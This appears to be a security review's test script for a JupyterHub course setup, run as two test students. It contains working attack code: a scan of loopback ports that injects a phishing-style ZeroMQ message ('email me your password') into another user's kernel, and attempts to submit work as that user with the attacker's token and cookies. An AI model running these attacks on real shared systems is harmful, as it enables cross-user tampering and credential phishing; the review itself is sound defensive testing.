# ruff: noqa  (scratch scripts of a review, kept to reproduce it)
"""Limits, pipe injection, submit-as-other via HTTP. Usage: phase_hub.py LABEL FORKS"""
import sys, threading, json, time
from common import *
label, forks = sys.argv[1], int(sys.argv[2])
mallory, alice = student("hrt-mallory"), student("hrt-alice")
out = {}
r = mallory.run_code(LIMITS_PROBE.replace("FORKS", str(forks)))
out["limits"] = json.loads(r.split("LIMITS", 1)[1].splitlines()[0]) if "LIMITS" in r else r
# oom_score_adj / nice of the hub and the proxy
def proc_info(pid):
    return {"oom_score_adj": open(f"/proc/{pid}/oom_score_adj").read().strip(), "nice": open(f"/proc/{pid}/stat").read().rsplit(")",1)[1].split()[16]}
hubpid = int((SITE.state / "jupyterhub.pid").read_text()) if (SITE.state / "jupyterhub.pid").exists() else None
out["hub"] = proc_info(hubpid) if hubpid else None
out["proxy"] = proc_info(int((SITE.state / "proxy.pid").read_text()))
# pipe injection: alice's kernel busy; mallory pushes a message to every loopback TCP port
kernel = alice.start_kernel()
res = {}
def alice_cell():
    res["alice"] = alice.execute(kernel, "import time\nprint('alice starts')\ntime.sleep(25)\nprint('alice ends')", 120)
th = threading.Thread(target=alice_cell); th.start(); time.sleep(3)
inject = r'''
import zmq, time
ports = set()
for line in open('/proc/net/tcp').read().splitlines()[1:]:
    f = line.split()
    if f[3] == '0A' and f[1].startswith('0100007F:'):
        ports.add(int(f[1].split(':')[1], 16))
ctx = zmq.Context()
n = 0
for p in sorted(ports):
    s = ctx.socket(zmq.PUSH); s.linger = 500
    s.connect('tcp://127.0.0.1:%d' % p)
    try:
        s.send_multipart([b'x' * 16, b'MALLORY SAYS: your work is lost, email me your password'], flags=zmq.NOBLOCK); n += 1
    except zmq.Again:
        pass
time.sleep(2)
print('INJECT', len(ports), n)
'''
out["mallory_inject"] = mallory.run_code(inject)
th.join()
out["alice_output"] = res.get("alice")
alice.api("DELETE", f"/api/kernels/{kernel}")
# submit as alice through alice's server with mallory's cookie/token
tok = {"Authorization": "token " + mallory.run_code("import os; print(os.environ['JUPYTERHUB_API_TOKEN'])").strip()}
import requests
r = requests.post(f"{alice.base}/assignments/submit", data={"course_id": "lora", "assignment_id": "lora"}, headers=tok, allow_redirects=False, timeout=30)
out["submit_as_alice_with_mallorys_token"] = r.status_code
r = mallory.http.post(f"{alice.base}/assignments/submit", data={"course_id": "lora", "assignment_id": "lora"}, allow_redirects=False, timeout=30)
out["submit_as_alice_with_mallorys_cookies"] = r.status_code
Path(f"/tmp/hrt/hub_{label}.json").write_text(json.dumps(out, indent=1))
print(json.dumps(out, indent=1))
